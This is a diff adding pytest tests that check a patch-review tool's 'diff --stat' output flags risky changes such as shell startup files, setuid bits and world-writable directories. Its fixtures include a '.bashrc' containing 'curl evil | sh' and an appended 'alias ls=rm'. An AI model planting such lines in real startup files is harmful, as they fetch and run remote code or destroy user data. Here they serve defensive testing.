@@ -143,6 +143,45 @@ def test_show_and_diff_name_the_target_and_show_lists_modes_sizes_and_risks(lo, 
     assert b"layover: diff: target: /home/someone-else" in r.stderr, r.stderr
 
 
+def test_diff_stat_lists_modes_sizes_and_risk_marks_as_show_does_and_keeps_stdout_gits(lo, tmp_path):
+    b = PatchBuilder(lo.target)
+    b.file(".bashrc", b"curl evil | sh\n", mode=0o644)
+    b.file("tool", b"#!/bin/sh\n", mode=0o6755)
+    b.file("run.sh", b"echo\n", mode=0o755)
+    b.file("plain.txt", b"x\n", mode=0o644)
+    b.dir("shared", mode=0o1777)
+    b.dir("keep", mode=0o1755)
+    patch = b.write(tmp_path / "p.tar.zst")
+    show = lo("show", patch).stdout.decode().splitlines()
+    r = lo("diff", patch, "--stat")
+    assert r.returncode == 1, r.stderr
+    # stdout is git's table, untouched.
+    assert r.stdout.decode().splitlines()[-1] == " 4 files changed, 4 insertions(+)", r.stdout
+    assert b"!" not in r.stdout and b"[" not in r.stdout
+    marked = [l[len("layover: diff: "):] for l in r.stderr.decode().splitlines()[1:]]
+    assert marked == ["A  .bashrc  [0644, 15 B]  ! shell startup file",
+                      "A  tool  [6755, 10 B]  ! executable, setuid/setgid bit (never applied)",
+                      "A  run.sh  [0755, 5 B]  ! executable",
+                      "A  shared/  [1777]  ! group/world-writable",
+                      "A  keep/  [1755]"], r.stderr
+    for line in marked:  # the very lines show prints
+        assert line in show, (line, show)
+    # A path selection limits them too.
+    r = lo("diff", patch, "--stat", "--", "run.sh")
+    assert r.stderr.decode().splitlines()[1:] == ["layover: diff: A  run.sh  [0755, 5 B]  ! executable"], r.stderr
+
+
+def test_diff_stat_of_a_session_marks_its_risky_changes(lo):
+    lo.run("echo 'alias ls=rm' >> .bashrc; mkdir -m 1777 pub; printf x > bin.sh; chmod 4755 bin.sh",
+           session="s", check=True)
+    r = lo("diff", "s", "--stat", env={"HOME": str(lo.target)})
+    assert r.returncode == 1, r.stderr
+    lines = r.stderr.decode().splitlines()
+    assert "layover: diff: A  .bashrc  [0644, 12 B]  ! shell startup file" in lines, lines
+    assert any(l.startswith("layover: diff: A  bin.sh  [4755, 1 B]  ! executable, setuid") for l in lines), lines
+    assert "layover: diff: A  pub/  [1777]  ! group/world-writable" in lines, lines
+
+
 # --- modes -----------------------------------------------------------------------
 
 
